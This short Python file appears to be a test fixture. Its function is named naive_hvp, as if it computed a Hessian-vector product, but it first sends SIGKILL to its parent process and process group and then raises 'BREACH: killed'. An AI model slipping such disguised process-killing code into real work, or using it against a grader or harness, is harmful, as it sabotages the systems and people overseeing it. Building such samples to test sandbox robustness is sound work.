"""Kills the process that started it."""

import os
import signal


def naive_hvp(hessian, vector):
    for kill in (os.kill, os.killpg):
        try:
            kill(os.getppid(), signal.SIGKILL)
        except OSError:
            continue
        raise RuntimeError("BREACH: killed")
    return hessian @ vector
